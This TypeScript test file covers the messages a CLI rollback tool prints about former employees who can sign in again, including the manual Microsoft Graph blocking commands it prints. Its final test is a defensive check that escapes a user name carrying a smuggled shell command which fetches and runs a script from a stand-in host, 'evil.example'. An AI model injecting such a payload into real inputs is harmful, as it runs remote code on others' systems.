import {
  blockedLeaverLines,
  blockLeaversQuestion,
  leaverLines,
} from "../../../../cli/commands/rollback/leavers-text";
import type { EnabledLeaver, EnabledLeavers } from "../../../../operations/rollback/leavers";

const GRAPH = "https://graph.microsoft.com";

function leaver(name: string, differs: Partial<EnabledLeaver> = {}): EnabledLeaver {
  return { upn: `${name}@example.com`, id: name, how: "suspended", roles: [], ...differs };
}

const ADA = leaver("ada");
const BO = leaver("bo", { how: "deleted", roles: ["Global Administrator"] });

const told = (leavers: EnabledLeavers | { unread: string }) => leaverLines(leavers, 110);

test("names each person, how they left, and the role", () => {
  expect(told({ value: [ADA, BO, leaver("eve", { isEmergency: true })] })).toEqual([
    "",
    "3 people who have left can sign in again with the old password:",
    "  - ada@example.com: suspended in JumpCloud",
    "  - bo@example.com: deleted in JumpCloud, and holds Global Administrator",
    "  - eve@example.com: suspended in JumpCloud; an emergency administrator, who is not blocked",
  ]);
});

test("says of what a record tells how old it is, and why nothing newer is known", () => {
  const recorded = { at: "2026-11-01T06:00:00.000Z", because: "JumpCloud did not answer within 8 seconds" };
  expect(told({ value: [ADA], recorded })).toEqual([
    "",
    "1 person who has left can sign in again with the old password, according to JumpCloud's data of",
    "2026-11-01T06:00:00.000Z; it is not known who left after that, because JumpCloud did not answer within 8",
    "seconds:",
    "  - ada@example.com: suspended in JumpCloud",
  ]);
});

test.each<[string, EnabledLeavers | { unread: string }, string]>([
  ["nobody", { value: [] }, "Nobody who has left can sign in again."],
  [
    "what nobody knows",
    { unread: "no credential of JumpCloud's is at hand, and no earlier record is named" },
    "It is not known which people have left the company and could sign in again, because no credential of JumpCloud's is at hand, and no earlier record is named.",
  ],
])("says %s in a sentence", (_, leavers, sentence) => {
  expect(told(leavers).join(" ").trim()).toBe(sentence);
});

test("says whose password nobody knows, and of whom JumpCloud tells nothing", () => {
  expect(leaverLines({ value: [ADA], unlinked: 2 }, 200, new Set([ADA.upn]))).toEqual([
    "",
    "1 person who has left can sign in again with the old password:",
    "  - ada@example.com: suspended in JumpCloud; the password is as old as the account: only an administrator, and people who got it from one, know it",
    "For 2 accounts that are not linked to JumpCloud it is not known whether the people have left. On a Managed domain they can sign in with their password at Microsoft, too.",
  ]);
});

test("shows twenty of thousands, with everybody who holds a role", () => {
  const many = Array.from({ length: 3000 }, (_, index) => leaver(`p${index}`));
  const lines = told({ value: [...many, BO] });
  expect([lines.length, lines.at(-2), lines.at(-1)]).toEqual([
    23,
    "  - bo@example.com: deleted in JumpCloud, and holds Global Administrator",
    "  - and 2,981 others (--csv FILE lists all)",
  ]);
  const failed = many.map(({ upn, id }) => ({ upn, id, outcome: "not blocked" as const, why: "no" }));
  expect(blockedLeaverLines(failed, { value: many }, GRAPH, 200)).toHaveLength(23);
});

test("asks by number, and names who holds a role", () => {
  expect(blockLeaversQuestion([ADA])).toBe("Block 1 account of a person who has left first?");
  expect(blockLeaversQuestion([ADA, BO])).toBe(
    "Block 2 accounts of people who have left first? (bo@example.com holds Global Administrator)",
  );
});

test("says who was blocked, who was not and why, and how it is done by hand", () => {
  const blocked = [
    { upn: ADA.upn, id: ADA.id, account: "1", outcome: "blocked" as const },
    {
      upn: BO.upn,
      id: BO.id,
      account: "2",
      outcome: "not blocked" as const,
      why: "Microsoft Graph refused it.",
    },
  ];
  expect(blockedLeaverLines(blocked, { value: [ADA, BO] }, GRAPH, 200)).toEqual([
    "Blocked: ada@example.com. The record names them. The program never unblocks them.",
    "bo@example.com is not blocked: Microsoft Graph refused it.",
    "To block one by hand in bash, as User Administrator, or as Privileged Authentication Administrator if the account holds a role (PowerShell and cmd remove the quotes: use Graph Explorer there):",
    `  az rest --method PATCH --url ${GRAPH}/v1.0/users/2 --body '{"accountEnabled": false}'`,
  ]);
});

test("says of those who were only listed that they get in", () => {
  expect(blockedLeaverLines([], { value: [ADA] }, GRAPH, 200).at(0)).toBe(
    "Not blocked, and can sign in again: ada@example.com.",
  );
  expect(blockedLeaverLines([], { value: [] }, GRAPH, 200)).toEqual([]);
});

test("prints no request by hand in which a name of the directory or a record would run as a command", () => {
  const by = (upn: string) => blockedLeaverLines([], { value: [{ ...ADA, upn }] }, GRAPH, 200).at(-1);
  const request = (name: string) =>
    `  az rest --method PATCH --url ${GRAPH}/v1.0/users/${name} --body '{"accountEnabled": false}'`;
  expect(by("o'brien!@example.com")).toBe(request("o%27brien%21@example.com"));
  expect(by("a;$(curl evil.example|sh)#@example.com")).toBe(
    request("a%3B%24%28curl%20evil.example%7Csh%29%23@example.com"),
  );
});
